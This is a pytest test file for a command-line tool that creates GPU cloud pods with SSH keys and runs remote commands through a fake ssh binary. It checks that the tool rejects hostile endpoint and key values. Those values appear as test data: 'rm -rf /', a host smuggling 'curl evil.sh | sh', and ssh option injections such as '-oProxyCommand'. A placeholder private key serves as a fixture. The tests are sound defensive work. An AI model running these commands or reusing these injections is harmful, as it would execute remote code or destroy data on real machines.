"""SSH: keys into the create body (valid against the OpenAPI spec), ssh-command out, pods exec."""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pytest
from fake_runpod import validator
from pods_testing import api_env, executable

from gpuci_testing import clean_env, run_cli

UP = dict(image="img", command="serve", ttl="45m", gpu_types="NVIDIA L40S", ports="8000/http")
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILXGDN/SclOozk1xsDztpmhGiKkkrfQB9SKoO8dSIQQZ me@laptop"
PRIVATE = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
    "-----END OPENSSH PRIVATE KEY-----"
)
FAKE_SSH = """#!{python}
import json, os, stat, sys
args = sys.argv[1:]
key = args[args.index("-i") + 1]
record = {{
    "argv": args,
    "key": open(key).read(),
    "key_mode": oct(stat.S_IMODE(os.stat(key).st_mode)),
    "dir_mode": oct(stat.S_IMODE(os.stat(os.path.dirname(key)).st_mode)),
    "env_has_secrets": any(k in os.environ for k in ("RUNPOD_SSH_PRIVATE_KEY", "RUNPOD_API_KEY")),
}}
open(os.environ["FAKE_SSH_LOG"], "w").write(json.dumps(record))
print("hello from the pod")
sys.exit(int(os.environ.get("FAKE_SSH_EXIT", "0")))
"""


@pytest.fixture
def fake_ssh(tmp_path) -> dict[str, str]:
    """An ``ssh`` on PATH that records how it was called (no sshd needed)."""
    bin_dir = executable(tmp_path / "bin" / "ssh", FAKE_SSH.format(python=sys.executable)).parent
    return {
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        "FAKE_SSH_LOG": str(tmp_path / "ssh.json"),
        "RUNPOD_SSH_PRIVATE_KEY": PRIVATE,
    }


def test_up_with_keys_starts_ssh_and_outputs_the_command(fake, run):
    res = run("up", **UP, ssh_public_keys=KEY)
    assert res.code == 0, res.stdout
    body = fake.calls("POST", "/v2/pods")[0].body
    validator("CreatePodRequest").validate(body)  # the contract, as the fake also checks
    assert body["startSsh"] is True and body["env"]["PUBLIC_KEY"] == KEY
    assert body["ports"] == ["8000/http", "22/tcp"]
    pod = fake.pods[res.outputs["pod-id"]]
    port = pod["ssh"]["direct"]["port"]
    assert res.outputs["ssh-command"] == f"ssh root@203.0.113.7 -p {port}"
    assert f"ssh: ssh root@203.0.113.7 -p {port}" in res.stderr


def test_keys_from_the_environment_and_none_means_no_ssh(fake, run):
    res = run("up", **UP, extra_env={"RUNPOD_SSH_PUBLIC_KEYS": KEY + "\n" + KEY})
    assert fake.calls("POST", "/v2/pods")[0].body["env"]["PUBLIC_KEY"] == KEY + "\n" + KEY
    plain = run("up", **UP)
    body = fake.calls("POST", "/v2/pods")[1].body
    assert "startSsh" not in body and "PUBLIC_KEY" not in body["env"]
    assert res.outputs["ssh-command"] and plain.outputs["ssh-command"] == ""


def test_a_malformed_key_is_bad_input(fake, run):
    res = run("up", **UP, ssh_public_keys="not a key\nrm -rf /")
    assert res.code == 2 and "authorized_keys" in res.json["headline"]
    assert fake.calls("POST", "/v2/pods") == []


def test_a_hostile_ssh_block_is_not_printed_as_a_command(fake, run, monkeypatch):
    original = fake._ssh_block

    def hostile(pod):
        block = original(pod)
        block["direct"] = {**block["direct"], "host": "x; curl evil.sh | sh"}
        block["proxy"] = {**block["proxy"], "username": "a b"}
        return block

    monkeypatch.setattr(fake, "_ssh_block", hostile)
    res = run("up", **UP, ssh_public_keys=KEY)
    assert res.code == 0 and res.outputs["ssh-command"] == ""
    assert any("no usable SSH endpoint" in a["message"] for a in res.json["annotations"])


def test_exec_runs_over_ssh_with_a_private_key_file_that_is_gone_afterwards(fake, run, fake_ssh):
    pod_id = run("up", **UP, ssh_public_keys=KEY).outputs["pod-id"]
    res = run("exec", pod_id=pod_id, command="nvidia-smi -L", extra_env=fake_ssh)
    assert res.code == 0, res.stdout
    rec = json.loads(Path(fake_ssh["FAKE_SSH_LOG"]).read_text())
    port = fake.pods[pod_id]["ssh"]["direct"]["port"]
    assert rec["argv"][-3:] == ["--", "203.0.113.7", "nvidia-smi -L"]
    assert rec["argv"][rec["argv"].index("-l") + 1] == "root"
    assert rec["argv"][rec["argv"].index("-p") + 1] == str(port)
    assert "BatchMode=yes" in rec["argv"] and "StrictHostKeyChecking=accept-new" in rec["argv"]
    assert rec["key"] == PRIVATE + "\n" and rec["key_mode"] == "0o600"
    assert rec["dir_mode"] == "0o700" and not rec["env_has_secrets"]
    key_file = rec["argv"][rec["argv"].index("-i") + 1]
    assert not Path(key_file).exists() and not Path(key_file).parent.exists()
    assert "hello from the pod" in res.stderr
    for line in PRIVATE.splitlines()[1:2]:
        assert line not in res.stdout + res.stderr
    assert res.outputs["exit-status"] == "0"


def test_exec_exit_codes(fake, run, fake_ssh):
    pod_id = run("up", **UP, ssh_public_keys=KEY).outputs["pod-id"]
    failed = run(
        "exec", pod_id=pod_id, command="false", extra_env={**fake_ssh, "FAKE_SSH_EXIT": "3"}
    )
    assert failed.code == 1 and failed.outputs["exit-status"] == "3"
    down = run("exec", pod_id=pod_id, command="x", extra_env={**fake_ssh, "FAKE_SSH_EXIT": "255"})
    assert down.code == 3 and "ssh to root@203.0.113.7" in down.json["headline"]
    no_key = {k: v for k, v in fake_ssh.items() if k != "RUNPOD_SSH_PRIVATE_KEY"}
    assert run("exec", pod_id=pod_id, command="x", extra_env=no_key).code == 2
    plain = run("up", **UP).outputs["pod-id"]  # no keys, no 22/tcp: no direct endpoint
    assert run("exec", pod_id=plain, command="x", extra_env=fake_ssh).code == 2


def test_the_cli_takes_the_command_after_double_dash(live, fake_ssh, tmp_path):
    env = clean_env(**api_env(live, tmp_path, GIT_CONFIG_GLOBAL="/dev/null", **fake_ssh))
    up = run_cli(
        "pods", "up", "--gpu-types", "NVIDIA L40S", "--image", "img", "--ttl", "10m",
        "--ssh-public-keys", KEY, env=env,
    )  # fmt: skip
    assert up.returncode == 0, up.stdout + up.stderr
    pod_id = next(iter(live.pods))
    proc = run_cli(
        "pods", "exec", "--pod-id", pod_id, "--", "python", "-c", "print('a b')", env=env
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    rec = json.loads(Path(fake_ssh["FAKE_SSH_LOG"]).read_text())
    assert rec["argv"][-1] == "python -c 'print('\"'\"'a b'\"'\"')'"
    assert PRIVATE.splitlines()[1] not in proc.stdout + proc.stderr


@pytest.mark.parametrize(
    ("field", "value"),
    [("username", "-Epwned"), ("username", "-Fcfg"), ("host", "-oProxyCommand.x")],
)
def test_an_endpoint_ssh_would_read_as_an_option_is_refused_unrun(fake_ssh, field, value):
    """RunPod's answer names the user and host: ``-Fcfg@HOST`` was ssh's -F (a config file
    from the working folder, whose ProxyCommand ran), ``-Epwned`` its -E (a log file written).
    A leading '-' is refused (exit 3) before ssh starts; what passes goes after ``--``."""
    from gpuci.errors import InfraError
    from gpuci.pods._lifecycle import ssh

    direct = {"host": "203.0.113.7", "port": 22, "username": "root", field: value}
    pod = {"id": "p1", "ssh": {"direct": direct, "proxy": None}}
    assert ssh.endpoint(pod) is None
    with pytest.raises(InfraError, match=r"ssh\.direct endpoint is unusable") as err:
        ssh.run_remote(pod, "nvidia-smi", fake_ssh, 60)
    assert err.value.exit_code == 3 and "\n" not in err.value.one_line()
    assert not Path(fake_ssh["FAKE_SSH_LOG"]).exists()  # ssh never ran


LOUD_SSH = """#!/bin/sh
head -c 20000000 /dev/zero
echo the-last-line
{then}
"""


@pytest.mark.parametrize("then", ["exit 3", "sleep 600"])
def test_exec_output_of_megabytes_is_held_to_its_tail(tmp_path, then):
    """A command printing 20 MB (a pod's log) or printing then hanging: the parent holds the
    last OUTPUT_CAP bytes, never the whole (before: every byte, then the tail)."""
    import tracemalloc

    from gpuci.errors import InfraError
    from gpuci.pods._lifecycle import ssh

    bin_dir = executable(tmp_path / "bin" / "ssh", LOUD_SSH.format(then=then)).parent
    pod = {"id": "p1", "ssh": {"direct": {"host": "203.0.113.7", "port": 22, "username": "u"}}}
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "RUNPOD_SSH_PRIVATE_KEY": PRIVATE}
    tracemalloc.start()
    try:
        if then == "exit 3":
            code, output = ssh.run_remote(pod, "cat big", env, 120)
            assert code == 3 and output.endswith("the-last-line\n")
            assert len(output) == ssh.OUTPUT_CAP
        else:
            with pytest.raises(InfraError, match=r"^ssh to 203.0.113.7 ran past 3s$"):
                ssh.run_remote(pod, "cat big", env, 3)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 4_000_000, peak


@pytest.mark.parametrize(("field", "value"), [("host", "203.0.113.7\n"), ("username", "root\n")])
def test_an_endpoint_with_a_final_newline_is_refused(field, value):
    """``$`` matched before a final "\\n": RunPod's ``root\\n`` went to ssh and into the
    printed ssh-command as a line break. Whole strings only."""
    from gpuci.pods._lifecycle import ssh

    direct = {"host": "203.0.113.7", "port": 22, "username": "root", field: value}
    assert ssh.endpoint({"id": "p1", "ssh": {"direct": direct}}) is None
